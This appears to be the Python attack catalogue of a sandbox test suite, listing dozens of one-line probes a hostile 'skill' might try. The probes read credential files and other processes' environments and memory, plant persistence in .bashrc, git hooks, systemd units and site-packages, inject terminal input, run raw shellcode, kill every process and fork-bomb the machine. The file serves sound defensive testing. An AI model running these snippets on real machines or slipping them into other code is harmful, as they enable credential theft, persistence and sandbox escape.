"""What a hostile skill tries: each attack is a few lines of Python that run where a skill runs.

What it gets at it says with `out(…)`; what it changes is found from outside. An attack that would harm the machine if it
worked only tries the door. `beyond` names the tiers that do not promise to hold it: `doctor` says so there.
"""

# ruff: noqa: E501  an attack is easier to judge on one line
from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Attack:
    """One thing that is tried."""

    name: str
    script: str
    is_harmless: bool = True
    """Whether it may be tried without walls too: one that could not succeed there would prove nothing."""
    beyond: str = ""
    seconds: float = 5.0


PRELUDE = """
import ctypes, errno, glob, json, os, socket, struct, sys
TOLD = json.loads(sys.argv[1])
WORD, HOME, PORT, VICTIM, ABSTRACT, MARK = (TOLD[name] for name in ('word', 'home', 'port', 'victim', 'abstract', 'mark'))
OUT = os.environ['WORKBENCH_OUT']
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def out(text):
    if text:
        print('OUT:', text, flush=True)
def call(number, *arguments):
    return libc.syscall(number, *(ctypes.c_long(each) if isinstance(each, int) else each for each in arguments))
def has(data):
    return (data if isinstance(data, bytes) else data.encode()).find(WORD.encode()) >= 0
def reading(path):
    with open(path, 'rb') as file:
        data = file.read(100_000)
    out(path if has(data) else '')
def each(action, things):
    for thing in things:
        try:
            action(thing)
        except (OSError, ValueError):
            pass
"""
ENDING = "try:\n    exec(sys.argv[2])\nexcept (OSError, ImportError, ValueError):\n    pass\n"

SECRETS = (
    Attack("its own environment", "out(WORD if WORD in os.environ.values() else '')"),
    Attack("/proc/self/environ", "reading('/proc/self/environ')"),
    Attack(
        "the environment of whoever started it",
        "each(reading, ['/proc/1/environ', f'/proc/{os.getppid()}/environ', '/proc/thread-self/environ'])",
    ),
    Attack(
        "the environment of any process",
        "each(reading, glob.glob('/proc/[0-9]*/environ') + glob.glob('/proc/[0-9]*/task/*/environ'))",
    ),
    Attack(
        "the command line of any process",
        "each(lambda path: out(path) if b'victim-' + WORD.encode() in open(path, 'rb').read() else None, glob.glob('/proc/[0-9]*/cmdline'))",
        beyond="B",
    ),
    Attack("a file of the home folder", "reading(HOME + '/.aws/credentials')"),
    Attack("a file of the workspace", "reading(HOME + '/../workspace/private.txt')"),
    Attack("another skill", "reading(HOME + '/../workspace/skills/other/skill.json')"),
    Attack(
        "the workbench's own state",
        "each(reading, glob.glob(HOME + '/../workspace/.workbench/**', recursive=True))",
        is_harmless=False,
    ),
    Attack("the file by /proc/self/root", "reading('/proc/self/root' + HOME + '/.aws/credentials')"),
    Attack(
        "the file by another process's root, working folder and descriptors",
        "each(lambda path: reading(path + HOME + '/.aws/credentials'), glob.glob('/proc/[0-9]*/root') + glob.glob('/proc/[0-9]*/cwd'))\neach(reading, [path for path in glob.glob('/proc/[0-9]*/fd/*') if f'/{os.getpid()}/' not in path and not path.endswith('/fd/0')]) if TOLD['walls'] else None\nreading(f'/proc/{VICTIM}/root{HOME}/.aws/credentials')",
    ),
    Attack(
        "the file by a link in its own folder",
        "os.symlink(HOME + '/.aws/credentials', OUT + '/link'); reading(OUT + '/link')",
    ),
    Attack("the file by a hard link", "os.link(HOME + '/.aws/credentials', OUT + '/hard'); reading(OUT + '/hard')"),
    Attack("the file by a way up", "reading(OUT + '/../' * 20 + HOME + '/.aws/credentials')"),
    Attack(
        "descriptors that it was not given",
        """
for descriptor in range(3, 1024):
    each(lambda number: out(str(number)) if has(os.pread(number, 10_000, 0)) else None, [descriptor])
    each(lambda number: reading(f'/proc/self/fd/{number}' + '/..' * 30 + HOME + '/.aws/credentials'), [descriptor])
""",
        is_harmless=False,
    ),
    Attack(
        "the memory of a process of the same user",
        """
with open(f'/proc/{VICTIM}/mem', 'rb') as memory:
    for line in open(f'/proc/{VICTIM}/maps'):
        if ' rw' in line and '[heap]' in line:
            memory.seek(int(line.split('-')[0], 16))
            out('heap') if memory.read(4096) else None
""",
    ),
    Attack(
        "its memory by process_vm_readv",
        "buffer = ctypes.create_string_buffer(16)\nmine = struct.pack('QQ', ctypes.addressof(buffer), 16)\ntheirs = struct.pack('QQ', TOLD['address'], 16)\nout('read') if call(310 if os.uname().machine == 'x86_64' else 270, VICTIM, mine, 1, theirs, 1, 0) > 0 else None",
        is_harmless=False,
    ),
    Attack(
        "another process by ptrace",
        "out('attached') if libc.ptrace(16, VICTIM, 0, 0) == 0 else None",
        is_harmless=False,
    ),
    Attack(
        "another process's descriptors by pidfd_getfd",
        "pid = call(434, VICTIM, 0)\nout('taken') if pid >= 0 and call(438, pid, 1, 0) >= 0 else None",
    ),
    Attack(
        "the keys of the kernel",
        "number = {'x86_64': (250, 249, 248), 'aarch64': (219, 218, 217)}[os.uname().machine]\nout('searched') if call(number[0], 0, -4, 1, 0, 0) >= 0 else None\nout('added') if call(number[2], b'user', b'x', b'y', 1, -2) >= 0 else None",
    ),
)

WRITES = (
    Attack("a file in the home folder", "open(HOME + '/written', 'w').write('x')"),
    Attack("a file by a link", "os.symlink(HOME + '/by-link', OUT + '/l'); open(OUT + '/l', 'w').write('x')"),
    Attack(
        "a file that is renamed out", "open(OUT + '/mine', 'w').write('x'); os.rename(OUT + '/mine', HOME + '/renamed')"
    ),
    Attack("a line in .bashrc", "open(HOME + '/.bashrc', 'a').write('x')"),
    Attack("a hook of git", "open(HOME + '/../workspace/.git/hooks/pre-commit', 'w').write('x')"),
    Attack("git's configuration", "open(HOME + '/../workspace/.git/config', 'a').write('[core]')"),
    Attack(
        "another .git in its place",
        "os.rename(HOME + '/../workspace/.git', HOME + '/../workspace/.was'); os.mkdir(HOME + '/../workspace/.git')",
    ),
    Attack(
        "an editor's tasks",
        "os.makedirs(HOME + '/../workspace/.vscode'); open(HOME + '/../workspace/.vscode/tasks.json', 'w').write('{}')",
    ),
    Attack("the mode of a file outside", "os.chmod(HOME + '/.bashrc', 0o777)", beyond="B"),
    Attack("the times of a file outside", "os.utime(HOME + '/.bashrc', (1, 1))", beyond="B"),
    Attack("an attribute of a file outside", "os.setxattr(HOME + '/.bashrc', 'user.x', b'y')"),
    Attack("nothing left of a file outside", "os.truncate(HOME + '/.bashrc', 0)"),
    Attack("a file outside that is gone", "os.unlink(HOME + '/.bashrc')"),
    Attack("a folder outside that is gone", "os.rmdir(HOME + '/empty')"),
    Attack(
        "a file that runs as its owner",
        "for mode in (0o4755, 0o2755, 0o6755):\n    path = f'{OUT}/{mode}'\n    each(lambda _: os.close(os.open(path, os.O_CREAT | os.O_WRONLY, mode)), [0])\n    each(lambda _: os.chmod(path, mode), [0])\n    out('set-id') if os.stat(path).st_mode & 0o6000 else None",
    ),
    Attack("a device", "os.mknod(OUT + '/disk', 0o60600, os.makedev(8, 0)); out('device')", is_harmless=False),
    Attack("shared memory", "open('/dev/shm/' + MARK, 'w').write('x')"),
    Attack(
        "a unit of systemd, or cron",
        "each(lambda path: (os.makedirs(os.path.dirname(path), exist_ok=True), open(path, 'w').write('x')), [HOME + '/.config/systemd/user/x.service', HOME + '/.config/autostart/x.desktop'])",
    ),
    Attack(
        "the mode of a file that it may only read",
        "descriptor = os.open(TOLD['skill'], os.O_RDONLY)\nos.fchmod(descriptor, 0o777); out('changed')",
        is_harmless=False,
        beyond="B",
    ),
    Attack("its own code", "open(TOLD['skill'], 'a').write(' '); out('rewritten')", is_harmless=False),
    Attack(
        "its own manifest in the workspace",
        "open(HOME + '/../workspace/skills/attack/skill.json', 'w').write('{}')",
        is_harmless=False,
    ),
    Attack(
        "Python's start",
        "import site, sysconfig\neach(lambda folder: (open(folder + '/x.pth', 'w').write('import os'), out(folder)), [*site.getsitepackages(), sysconfig.get_paths()['stdlib'], site.getusersitepackages()])",
        is_harmless=False,
    ),
    Attack("the interpreter", "open(os.path.realpath('/proc/self/exe'), 'r+b'); out('open')", is_harmless=False),
)

NETWORK = (
    Attack("a port of this machine", "socket.create_connection(('127.0.0.1', PORT), 1)"),
    Attack("a port over IPv6", "socket.create_connection(('::1', PORT), 1)"),
    Attack("a datagram", "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', PORT))"),
    Attack("an abstract socket", "socket.socket(socket.AF_UNIX).connect('\\0' + ABSTRACT)"),
    Attack("a socket in the file system", "socket.socket(socket.AF_UNIX).connect(HOME + '/socket')"),
    Attack(
        "a datagram from a pair",
        "socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)[0].sendto(b'x', HOME + '/datagrams')",
    ),
    Attack(
        "others who listen to it",
        "s = socket.socket(); s.bind(('0.0.0.0', TOLD['free'])); s.listen(); import time; time.sleep(0.5)",
    ),
    Attack(
        "a socket of its own folder for others",
        "s = socket.socket(socket.AF_UNIX); s.bind(OUT + '/s'); s.listen(); out('bound')",
    ),
    Attack("the machine's interfaces", "socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0); out('netlink')"),
    Attack(
        "packets",
        "each(lambda family: (socket.socket(family, socket.SOCK_RAW), out(str(family))), [17, 2])",
        is_harmless=False,
    ),
    Attack("the host of a virtual machine", "socket.socket(40, socket.SOCK_STREAM); out('vsock')"),
    Attack(
        "a name that says it all", "socket.getaddrinfo(WORD + '.attack.invalid', 80)\nout('asked')", is_harmless=False
    ),
    Attack(
        "a bluetooth, a crypto or a packet family",
        "each(lambda family: (socket.socket(family, 5), out(str(family))), [31, 38, 29, 44])",
        is_harmless=False,
    ),
)

KERNEL = (
    Attack(
        "typing into the terminal",
        "import fcntl\neach(lambda descriptor: (fcntl.ioctl(descriptor, 0x5412, b'x'), out('typed')), [0, 1, 2])",
        is_harmless=False,
    ),
    Attack(
        "typing into /dev/tty, also with a longer number",
        "descriptor = os.open('/dev/tty', os.O_RDWR)\nfor number in (0x5412, 0x541C, 0x5412 + 2**32, 0x5423):\n    out(hex(number)) if libc.ioctl(descriptor, ctypes.c_ulong(number), b'x') == 0 else None",
        is_harmless=False,
    ),
    Attack("a signal to another process", "os.kill(VICTIM, 0); out('seen')", beyond="B before ABI 6"),
    Attack("an end to another process", "os.kill(TOLD['other'], 15)", beyond="B before ABI 6"),
    Attack(
        "an end to everybody",
        "os.kill(-1, 15 if open('/proc/1/comm').read().startswith('bwrap') else 0)",
        is_harmless=False,
    ),
    Attack(
        "a user namespace",
        "out('unshared') if libc.unshare(0x10000000) == 0 else None\nout('mounts') if libc.unshare(0x00020000) == 0 else None",
    ),
    Attack(
        "a namespace by clone3",
        "arguments = struct.pack('QQQQQQQQ', 0x10000000, 0, 0, 0, 17, 0, 0, 0)\npid = call(435, arguments, len(arguments))\nos._exit(0) if pid == 0 else out('cloned') if pid > 0 else None",
    ),
    Attack("io_uring", "out('ring') if call(425, 1, ctypes.create_string_buffer(120)) >= 0 else None"),
    Attack(
        "userfaultfd, bpf and perf",
        "numbers = {'x86_64': (323, 321, 298), 'aarch64': (282, 280, 241)}[os.uname().machine]\nout('userfaultfd') if call(numbers[0], 1) >= 0 else None\nout('bpf') if call(numbers[1], 0, ctypes.create_string_buffer(64), 64) >= 0 else None\nout('perf') if call(numbers[2], ctypes.create_string_buffer(struct.pack('II', 1, 112), 112), 0, -1, -1, 0) >= 0 else None",
    ),
    Attack(
        "the calls of another architecture",
        "out('x32') if os.uname().machine == 'x86_64' and call(0x40000000 + 39) >= 0 else None",
        is_harmless=False,
    ),
    Attack(
        "a socket by int 0x80",
        "import mmap\nif os.uname().machine == 'x86_64':\n    code = bytes.fromhex('53b867010000bb02000000b901000000ba00000000cd805bc3')\n    memory = mmap.mmap(-1, 4096, prot=7)\n    memory.write(code)\n    got = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(memory)))()\n    out('socket') if got >= 0 else None",
    ),
    Attack("a system control", "os.open('/proc/sys/kernel/core_pattern', os.O_WRONLY); out('open')", is_harmless=False),
    Attack(
        "a control group",
        "each(lambda path: (os.close(os.open(path, os.O_WRONLY)), out(path)), glob.glob('/sys/fs/cgroup/**/cgroup.procs', recursive=True)[:20] + glob.glob('/sys/fs/cgroup/*/release_agent'))",
        is_harmless=False,
    ),
    Attack("sysrq", "os.open('/proc/sysrq-trigger', os.O_WRONLY); out('open')", is_harmless=False),
    Attack(
        "a disk",
        "each(lambda path: (os.close(os.open(path, os.O_RDONLY)), out(path)), glob.glob('/dev/[svx]d[a-z]*') + glob.glob('/dev/nvme*') + ['/dev/mem', '/dev/kmem'])",
        is_harmless=False,
    ),
    Attack("another root", "os.chroot(OUT); out('chroot')", is_harmless=False),
    Attack(
        "a mount",
        "out('mounted') if libc.mount(b'none', OUT.encode(), b'tmpfs', 0, None) == 0 else None",
        is_harmless=False,
    ),
    Attack(
        "another user",
        "each(lambda uid: (os.setuid(uid), out(str(uid))), [0] if os.getuid() else [])\neach(lambda _: (os.setgroups([0, 4, 6]), out('groups')), [0])",
        is_harmless=False,
    ),
    Attack(
        "its own limits",
        "import resource\nfor limit in (resource.RLIMIT_FSIZE, resource.RLIMIT_NPROC, resource.RLIMIT_NOFILE):\n    soft, hard = resource.getrlimit(limit)\n    if 0 < hard < 2**40:\n        each(lambda _: (resource.setrlimit(limit, (hard * 2, hard * 2)), out(str(limit))), [0])",
        is_harmless=False,
    ),
    Attack(
        "more privileges",
        "for line in open('/proc/self/status'):\n    out(line) if line.startswith('CapEff') and int(line.split()[1], 16) or line.startswith('NoNewPrivs') and line.split()[1] != '1' else None",
        is_harmless=False,
    ),
    Attack("memory where nobody looks", "os.memfd_create('x'); out('memfd')"),
    Attack(
        "a program in memory",
        "descriptor = os.memfd_create('x')\nos.write(descriptor, open('/bin/true', 'rb').read())\nos.execve(descriptor, ['x'], {})",
        is_harmless=False,
    ),
    Attack("shared memory of others", "reading('/dev/shm/' + MARK + '-host')"),
    Attack(
        "System V memory of others",
        "number = {'x86_64': 29, 'aarch64': 194}[os.uname().machine]\nout('made') if call(number, 0x5157, 4096, 0o1666) >= 0 else None",
    ),
    Attack(
        "whoever started it",
        'for descriptor in range(3, 300):\n    each(lambda number: (socket.socket(fileno=os.dup(number)).send(b\'{"do": "start"}\'), out(str(number))), [descriptor])',
        is_harmless=False,
    ),
    Attack(
        "older code of the kernel",
        "out('personality') if libc.personality(ctypes.c_ulong(0x0400000)) >= 0 else None",
        is_harmless=False,
    ),
)

LIVES_ON = (
    Attack(
        "a daemon",
        "if os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        import time\n        time.sleep(600)\n    os._exit(0)",
    ),
    Attack(
        "a daemon that holds the output",
        "if os.fork() == 0:\n    os.setsid(); import time; time.sleep(600)\nprint('gone')",
    ),
    Attack(
        "a daemon of a daemon of a daemon",
        "import time\nfor _ in range(5):\n    if os.fork(): os._exit(0)\n    os.setsid()\ntime.sleep(600)",
    ),
    Attack(
        "a child that is deaf to everything",
        "import signal, time\nif os.fork() == 0:\n    [signal.signal(each, signal.SIG_IGN) for each in range(1, 32) if each not in (9, 17, 19)]\n    time.sleep(600)",
    ),
    Attack("a closed output and a long life", "os.close(1); os.close(2); import time; time.sleep(600)", seconds=1.5),
    Attack("stopping itself", "import signal; os.kill(os.getpid(), signal.SIGSTOP)", seconds=1.5),
    Attack("ending the first process", "os.kill(1, 9)", is_harmless=False),
    Attack(
        "many forks",
        "import time\nfor _ in range(200):\n    if os.fork() == 0:\n        time.sleep(600)",
        is_harmless=False,
    ),
    Attack(
        "a pipe where its output should be",
        "os.mkfifo(OUT + '/pipe')\nos.mkfifo(OUT + '/artifact.txt')",
        is_harmless=False,
    ),
    Attack(
        "folders that are deep and names that are odd",
        "os.chdir(OUT)\nfor _ in range(60):\n    os.mkdir('d' * 200); os.chdir('d' * 200)\nopen(OUT + '/\\n-rf \\x1b]0;x\\x07', 'w').close()",
        is_harmless=False,
    ),
    Attack(
        "a folder that nobody may enter",
        "os.mkdir(OUT + '/closed'); open(OUT + '/closed/x', 'w').close(); os.chmod(OUT + '/closed', 0)",
        is_harmless=False,
    ),
)

SECTIONS = {"secrets": SECRETS, "writes": WRITES, "network": NETWORK, "kernel": KERNEL, "lives on": LIVES_ON}
EVERY = tuple(attack for section in SECTIONS.values() for attack in section)
